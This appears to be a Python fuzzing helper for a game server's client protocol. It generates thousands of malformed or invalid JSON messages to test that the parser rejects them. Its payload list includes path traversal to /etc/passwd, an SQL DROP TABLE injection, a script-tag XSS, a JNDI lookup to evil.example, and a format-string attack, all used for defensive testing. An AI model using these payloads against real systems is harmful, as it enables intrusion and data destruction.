"""Hostile messages, ten thousand of them: the same ones every time."""

from __future__ import annotations

import json
import random
from collections.abc import Iterator
from typing import Any, Final

import msgspec

from sixstones.protocol import client

WEIRD: Final[tuple[Any, ...]] = (
    None,
    True,
    -1,
    0,
    4,
    1 << 53,
    (1 << 53) + 1,
    1 << 64,
    10**400,
    0.5,
    1e308,
    -0.0,
    "",
    " ",
    "0",
    "\x00",
    "a\x00b",
    "\u202e",
    "\ud800",
    "😀" * 50,
    "x" * 5_000,
    "../../etc/passwd",
    "'; DROP TABLE events; --",
    "<script>alert(1)</script>",
    "${jndi:ldap://evil.example}",
    "%s%n%x",
    "__class__",
    [],
    [[]],
    {},
    {"type": "play"},
    ["play"],
)
RAW: Final[tuple[bytes, ...]] = (
    b"",
    b" ",
    b"\x00",
    b"\xff\xfe",
    b"\xef\xbb\xbf{}",
    b"null",
    b"NaN",
    b"Infinity",
    b'"hello"',
    b"[]",
    b"{}",
    b"{",
    b"}",
    b'{"type":"play"',
    b'{"type":"play","state":NaN,"move":"pass"}',
    b'{"type":"play","state":1e999,"move":"pass"}',
    b'{"type":"play","state":01,"move":"pass"}',
    b'{"type":"play","type":"resign","state":5}',
    b'{"type":"resign","state":5,"state":99999}',
    b'{"type":"say","state":0,"text":"\\ud800"}',
    b'{"type":"say","state":0,"text":"\\u0000"}',
    b'{"type":"say","state":0,"phrase":"hello","text":"hello"}',
    b"[" * 8_000,
    b'{"a":' * 3_000,
    b"[" * 2_000 + b"]" * 2_000,
    b'{"type":"play","state":' + b"[" * 5_000 + b"]" * 5_000 + b"}",
    b'{"type":"play","state":' + b"9" * 9_000 + b"}",
    b'{"type":"hint","state":-' + b"1" * 400 + b"." + b"1" * 400 + b"e" + b"9" * 100 + b"}",
    b'{"type":"' + b"\\u0041" * 2_000 + b'"}',
    b"{" + b",".join(b'"k%d":%d' % (i, i) for i in range(1_000)) + b"}",
    b"GET / HTTP/1.1\r\n\r\n",
)
DAMAGE: Final = b'\x00"\\{}[],:e-\xff9'
KINDS: Final = msgspec.inspect.type_info(client.FromClient).types  # type: ignore[attr-defined]


def hostile_messages(seed: int, count: int, state: int) -> Iterator[bytes]:
    """Messages of which none is a valid command for a table at `state`."""
    choose = random.Random(seed)
    made = 0
    while made < count:
        message = _message(choose, state)
        if not _harmful(message, state):
            made += 1
            yield message


def _message(choose: random.Random, state: int) -> bytes:
    match choose.randrange(6):
        case 0:
            return choose.choice(RAW)
        case 1:
            return choose.randbytes(choose.randrange(200))
        case 2:
            return _damaged(_text(_valid(choose, state)), choose)
        case _:
            return _text(_mutated(_valid(choose, state), choose))


def _valid(choose: random.Random, state: int) -> dict[str, Any]:
    """A message of a random type with every field, most of them valid."""
    kind = choose.choice(KINDS)
    values: dict[str, Any] = {"type": kind.tag}
    good = {"state": state, "id": f"h{choose.randrange(10**9)}", "name": "Eve", "seat": 1, "bot": "hero"}
    good |= {"move": "nonsense", "agree": True, "phrase": "nonsense", "version": 1, "last": 0}
    for field in kind.fields:
        values[field.encode_name] = good.get(field.encode_name)
    return values


def _mutated(values: dict[str, Any], choose: random.Random) -> dict[str, Any]:
    for _ in range(choose.randint(1, 3)):
        name = choose.choice(list(values) or ["type"])
        match choose.randrange(5):
            case 0:
                values.pop(name, None)
            case 1:
                values[f"{name}x"] = choose.choice(WEIRD)
            case _:
                values[name] = choose.choice(WEIRD)
    return values


def _damaged(text: bytes, choose: random.Random) -> bytes:
    content = bytearray(text)
    for _ in range(choose.randint(1, 4)):
        place = choose.randrange(len(content))
        match choose.randrange(3):
            case 0:
                content[place] = choose.choice(DAMAGE)
            case 1:
                content.insert(place, choose.choice(DAMAGE))
            case _:
                del content[place:]
        if not content:
            break
    return bytes(content)


def _text(values: dict[str, Any]) -> bytes:
    return json.dumps(values).encode()


def _harmful(message: bytes, state: int) -> bool:
    """Whether this is a valid command for a player with a seat."""
    try:
        read = client.read_message(message)
    except (msgspec.DecodeError, RecursionError, UnicodeError):
        return False
    if isinstance(read, client.Hello | client.Ping | client.Leave | client.Hint):
        return True
    return isinstance(read, client.Resign | client.Undo | client.Start) and read.state == state
